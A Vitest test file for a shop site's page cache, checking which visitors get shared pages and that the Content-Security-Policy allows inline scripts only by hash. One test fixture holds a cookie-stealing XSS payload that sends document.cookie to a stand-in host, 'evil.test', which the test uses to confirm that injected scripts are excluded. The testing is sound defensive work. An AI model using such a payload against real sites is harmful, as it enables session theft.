// Which visitors get a shared page, and what the cache agrees to share.
import { describe, expect, it } from "vitest";
import { inlineScriptHashes } from "../platform/site-headers.server";
import { cachedPagePath, createSitePageCache } from "./page-cache.server";

const get = (url: string, headers: { cookie?: string; authorization?: string } = {}) =>
  cachedPagePath({ method: "GET", url, headers });

describe("who gets the shared page", () => {
  it("an anonymous visitor without cookies, or with only the referral cookie", () => {
    expect(get("/")).toBe("/");
    expect(get("/pricing")).toBe("/pricing");
    expect(get("/faq", { cookie: "ref=abc" })).toBe("/faq");
    expect(cachedPagePath({ method: "HEAD", url: "/about", headers: {} })).toBe("/about");
  });

  it("never a visitor who is signed in, has a cart or a toast, or carries any other cookie", () => {
    for (const cookie of [
      "better-auth.session_token=abc.def",
      "__Secure-better-auth.session_token=abc",
      "cart=eyJ",
      "toast=eyJ",
      "ref=abc; cart=eyJ",
      "cart=eyJ; ref=abc",
      "some-new-cookie=1",
      "",
    ])
      expect(get("/", { cookie }), cookie).toBeNull();
    expect(get("/", { authorization: "Bearer token" })).toBeNull();
  });

  it("never a request with a query string, another method, or another page", () => {
    expect(get("/?ref=abc123")).toBeNull();
    expect(get("/pricing?utm_source=x")).toBeNull();
    expect(get("/pricing/")).toBeNull();
    expect(get("/order-card?type=one-link")).toBeNull();
    expect(get("/cart?step=delivery")).toBeNull();
    expect(get("/login?verified=1")).toBeNull();
    expect(get("/payment-success")).toBeNull();
    expect(get("/dashboard")).toBeNull();
    expect(cachedPagePath({ method: "POST", url: "/contact", headers: {} })).toBeNull();
  });
});

const page =
  (html: string, init: ResponseInit = {}) =>
  () =>
    Promise.resolve(new Response(html, { status: 200, ...init }));
const PLAIN =
  '<!DOCTYPE html><html><body><h1>Hi</h1><script type="module" src="/a.js"></script></body></html>';

describe("who gets a shared sign-in or update page", () => {
  it("an anonymous visitor without cookies", () => {
    for (const path of ["/update-links", "/login", "/register"]) expect(get(path), path).toBe(path);
  });

  it("never a visitor with a cart, a session or a toast", () => {
    for (const path of ["/update-links", "/login", "/register"])
      for (const cookie of [
        "cart=eyJ",
        "better-auth.session_token=abc",
        "toast=eyJ",
        "ref=abc; cart=eyJ",
        "x=1",
      ])
        expect(get(path, { cookie }), `${path} ${cookie}`).toBeNull();
  });

  it("never the order form or the cart, which show stored data: those are rendered per request", () => {
    for (const cookie of [undefined, "ref=abc"]) {
      expect(get("/order-card", { cookie })).toBeNull();
      expect(get("/cart", { cookie })).toBeNull();
    }
    expect(get("/login", { cookie: "ref=abc" })).toBe("/login");
  });
});

describe("what the cache shares", () => {
  it("a plain page, rendered once for concurrent first visits, with a policy that allows no inline script", async () => {
    const cache = createSitePageCache();
    let renders = 0;
    const render = () => {
      renders++;
      return page(PLAIN)();
    };
    const [a, b] = await Promise.all([
      cache.load("/", render, "https://shop.test"),
      cache.load("/", render, "https://shop.test"),
    ]);
    expect(renders).toBe(1);
    expect(a).toBe(b);
    expect(cache.peek("/")?.identity.toString()).toBe(PLAIN);
    const headers = a!.headers.gzip!;
    const csp = headers[headers.indexOf("content-security-policy") + 1];
    expect(csp).toContain("script-src 'self';");
    expect(csp).not.toContain("nonce");
    expect(headers).toContain("strict-transport-security");
  });

  it("nothing that sets a cookie or fails", async () => {
    const cache = createSitePageCache();
    const url = "https://shop.test";
    expect(
      await cache.load("/", page(PLAIN, { headers: { "Set-Cookie": "toast=; Max-Age=0" } }), url),
    ).toBeNull();
    expect(await cache.load("/faq", page(PLAIN, { status: 500 }), url)).toBeNull();
    expect(
      await cache.load("/login", page(PLAIN, { status: 302, headers: { Location: "/" } }), url),
    ).toBeNull();
    expect(cache.size().pages).toBe(0);
  });

  it("a page with inline scripts, under a policy that allows exactly the render's own scripts by hash and no nonce", async () => {
    const cache = createSitePageCache();
    // Stored text that slipped past escaping would bring a script without the render's nonce.
    const smuggled = "<script>fetch('//evil.test/?'+document.cookie)</script>";
    const html = (nonce: string) =>
      `<body><script nonce="${nonce}">alert(1)</script><p>${smuggled}</p>` +
      `<script type="module" async="" nonce="${nonce}">a\r\nb</script><script src="/x.js"></script></body>`;
    let nonce = "";
    const render = (_path: string, renderNonce: string) => {
      nonce = renderNonce;
      return page(html(renderNonce))();
    };
    const entry = await cache.load("/login", render, "https://shop.test");
    const headers = entry!.headers.br!;
    const csp = headers[headers.indexOf("content-security-policy") + 1];
    // The hashes as `openssl dgst -sha256 -binary | base64` gives them for "alert(1)" and "a\nb".
    expect(csp).toContain(
      "script-src 'self' 'sha256-bhHHL3z2vDgxUt0W3dWQOrprscmda2Y5pLsLg4GF+pI=' 'sha256-fhj3NzEbLcOy8mndeDlrA1HxT7Zu+oefdoyyMYGIPHg=';",
    );
    expect(csp).not.toContain(inlineScriptHashes(smuggled)[0]);
    expect(csp).not.toContain("nonce");
    // The shared bytes keep the page, without the render's nonce.
    expect(nonce).toMatch(/^[A-Za-z0-9+/]{22}==$/);
    expect(entry!.identity.toString()).toBe(html(nonce).replaceAll(` nonce="${nonce}"`, ""));
    expect(inlineScriptHashes(PLAIN)).toEqual([]);
  });

  it("a page kept until the new year at the latest, as its footer shows the year", async () => {
    let time = new Date(2026, 11, 31, 23, 59).getTime();
    const cache = createSitePageCache(() => time);
    await cache.load("/login", page(PLAIN), "https://shop.test");
    expect(cache.peek("/login")).toBeDefined();
    time = new Date(2027, 0, 1).getTime();
    expect(cache.peek("/login")).toBeUndefined();
  });

  it("no path outside its list, so its size is bounded by the site", async () => {
    const cache = createSitePageCache();
    await cache.load("/made-up", page(PLAIN), "https://shop.test");
    expect(cache.size().pages).toBe(0);
  });
});
